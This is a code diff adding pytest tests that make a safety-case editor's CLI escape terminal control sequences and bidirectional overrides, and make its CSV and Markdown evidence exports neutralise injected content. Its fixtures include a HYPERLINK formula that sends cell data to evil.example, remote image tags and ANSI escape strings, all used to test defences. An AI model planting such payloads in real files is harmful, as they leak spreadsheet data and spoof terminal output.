@@ -3,8 +3,25 @@ formulas for a spreadsheet, a picture too large to rasterise, many writers at on
 
 from __future__ import annotations
 
-import pytest
+import csv
+import datetime as dt
+import io
+import json
+import os
+import re
+import subprocess
+import sys
+import unicodedata
+from pathlib import Path
 
+import pytest
+from factories import hazard_case
+
+from gsn_studio.cli import main
+from gsn_studio.cli.common import terminal_text
+from gsn_studio.export.register_table import csv_cell, markdown_cell
+from gsn_studio.io import load_case, save_case
+from gsn_studio.model import Verification
 from gsn_studio.notation import wrap
 from gsn_studio.notation.geometry import TEXT_SIZE
 from gsn_studio.notation.metrics import text_width
@@ -53,3 +70,164 @@ def test_wrapping_keeps_spacing_and_breaks_a_long_word_after_the_line_before() -
     assert lines[0] == "short"
     assert "".join(lines[1:]).replace(" ", "") == "y" * 80 + "tail"
     assert all(text_width(line, TEXT_SIZE) <= 100 for line in lines)
+
+
+# --- the terminal: text from a case is shown, never obeyed (issue 12.6) ---------------------
+
+HIDDEN = "\x9b2J\u202eTRUST ME"
+"""A C1 control sequence introducer (a terminal's 8-bit ESC [) and a right-to-left override:
+both are allowed in a case's text, and a terminal would act on them."""
+
+
+@pytest.fixture
+def case_file(tmp_path: Path) -> Path:
+    case = hazard_case()
+    case.update_node("G2", statement="Hazard H1 " + HIDDEN)
+    path = tmp_path / "case.gsnx"
+    save_case(case, path)
+    return path
+
+
+def test_terminal_text_shows_control_characters_as_escapes() -> None:
+    """ESC, C1 controls, bidirectional overrides and lone surrogates are written as escapes."""
+    assert terminal_text("G\x1b[2J\x1b[32mALL-GOOD") == "G\\x1b[2J\\x1b[32mALL-GOOD"
+    assert terminal_text("a\x9bb\u202ec\udcffd\ne\tf") == "a\\x9bb\\u202ec\\udcffd\\x0ae\tf"
+    assert terminal_text("Gefährdung 過剰 הערכה") == "Gefährdung 過剰 הערכה"
+
+
+def _no_controls(text: str) -> bool:
+    return not any(unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t" for c in text)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["comments"],
+        ["comments", "--format", "json"],
+        ["check"],
+        ["check", "--format", "json"],
+        ["evidence"],
+        ["evidence", "--format", "csv"],
+        ["evidence", "--format", "json"],
+    ],
+)
+def test_no_command_writes_a_control_character_from_the_case(
+    case_file: Path, capsys: pytest.CaptureFixture[str], command: list[str]
+) -> None:
+    """Comment text, authors, statements and findings reach the terminal with controls visible."""
+    assert main(["comment", str(case_file), "G2", "--author", "Eve\u202e", "--text", HIDDEN]) == 0
+    case = load_case(case_file)
+    evidence = case.node("Sn1").evidence
+    assert evidence is not None
+    gone = evidence.model_copy(
+        update={
+            "reference": "gone " + HIDDEN + ".pdf",
+            "verified": Verification(on=dt.date(2026, 1, 11), by="Eve", sha256="0" * 64),
+        }
+    )
+    case.update_node("Sn1", statement="Report " + HIDDEN, evidence=gone)
+    save_case(case, case_file)
+    capsys.readouterr()
+    main([command[0], str(case_file), *command[1:]])
+    out = capsys.readouterr().out
+    assert _no_controls(out)
+    if "json" in command:
+        assert HIDDEN in json.dumps(json.loads(out), ensure_ascii=False)  # the same value
+    else:
+        assert "\\x9b2J\\u202eTRUST ME" in out
+
+
+# --- text given on the command line (issue 12.7) --------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("args", "option"),
+    [
+        (["comment", "{case}", "G2", "--author", "a", "--text", "\x01"], "--text"),
+        (["comment", "{case}", "G2", "--author", "\x1b[31m", "--text", "fine"], "--author"),
+        (["verify", "{case}", "Sn1", "--by", "\x1b[31m"], "--by"),
+        (["comment", "{case}", "G2", "--author", "a", "--text", "caf\udce9"], "--text"),
+        (["reply", "{case}", "C1", "--author", "a", "--text", "x\x00y"], "--text"),
+    ],
+)
+def test_control_characters_on_the_command_line_are_refused_in_one_line(
+    case_file: Path, capsys: pytest.CaptureFixture[str], args: list[str], option: str
+) -> None:
+    """Text options a case could not hold end in one line naming the option, exit 2, no save."""
+    before = case_file.read_bytes()
+    status = main([arg.replace("{case}", str(case_file)) for arg in args])
+    err = capsys.readouterr().err
+    assert status == 2
+    assert len(err.splitlines()) == 1 and option in err and "Traceback" not in err
+    assert _no_controls(err)
+    assert case_file.read_bytes() == before
+
+
+def test_bytes_that_are_not_utf8_on_the_command_line_are_refused(case_file: Path) -> None:
+    """Invalid UTF-8 in argv (a real process) is refused in one line with exit status 2."""
+    result = subprocess.run(
+        [sys.executable, "-m", "gsn_studio", "comment", str(case_file), "G2",
+         "--author", "a", "--text", b"caf\xe9"],
+        capture_output=True,
+        check=False,
+        env={**os.environ, "LC_ALL": "C.UTF-8"},
+        timeout=60,
+    )  # fmt: skip
+    assert result.returncode == 2
+    assert result.stderr.decode().strip() == "gsn-studio: --text is not valid UTF-8 text"
+
+
+# --- the evidence register in a spreadsheet or a Markdown page (issue 12.12) ----------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
+def _register_case(path: Path) -> None:
+    case = hazard_case()
+    case.update_node("G2", statement="fine")
+    case.update_node("Sn1", statement=FORMULA)
+    evidence = case.node("Sn2").evidence
+    assert evidence is not None
+    case.update_node(
+        "Sn2",
+        statement='<img src="https://evil.example/t.png"> ![x](https://evil.example/p.png)',
+        evidence=evidence.model_copy(update={"reference": "@SUM(1+1)"}),
+    )
+    save_case(case, path)
+
+
+def test_csv_cells_cannot_become_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Cells starting with = + - @ get a leading quote and every cell is quoted (OWASP)."""
+    path = tmp_path / "case.gsnx"
+    _register_case(path)
+    assert main(["evidence", str(path), "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    rows = list(csv.DictReader(io.StringIO(out)))
+    by_id = {row["id"]: row for row in rows}
+    assert by_id["Sn1"]["statement"] == "'" + FORMULA
+    assert by_id["Sn2"]["reference"] == "'@SUM(1+1)"
+    assert all(line.startswith('"') for line in out.splitlines())
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+def test_csv_keeps_plain_numbers() -> None:
+    """A negative measured value stays a number; a formula that starts with a sign does not."""
+    assert csv_cell("-3.5") == "-3.5" and csv_cell("+2e3") == "+2e3"
+    assert csv_cell("-2+3") == "'-2+3" and csv_cell("\tx") == "'\tx" and csv_cell("x=1") == "x=1"
+
+
+def test_markdown_register_holds_no_tag_or_image(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """HTML is escaped and Markdown's image and link syntax is shown literally."""
+    path = tmp_path / "case.gsnx"
+    _register_case(path)
+    assert main(["evidence", str(path), "--format", "md"]) == 0
+    out = capsys.readouterr().out
+    assert "<" not in out and "![" not in out and not re.search(r"(?<!\\)\]\(", out)
+    assert '&lt;img src="https://evil.example/t.png"&gt;' in out
+    assert "\\!\\[x\\](https://evil.example/p.png)" in out
+    assert markdown_cell("a | b & <c>") == "a \\| b &amp; &lt;c&gt;"
